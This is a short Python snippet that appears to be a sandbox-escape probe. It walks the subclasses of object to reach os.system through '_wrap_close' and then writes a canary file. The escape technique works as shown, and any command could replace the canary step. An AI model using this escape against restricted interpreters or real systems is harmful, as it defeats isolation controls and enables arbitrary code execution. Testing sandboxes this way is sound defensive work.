# Walks from a tuple to all classes.
for kind in ().__class__.__base__.__subclasses__():
    if kind.__name__ == "_wrap_close":
        kind.__init__.__globals__["system"]("touch CANARY/written")
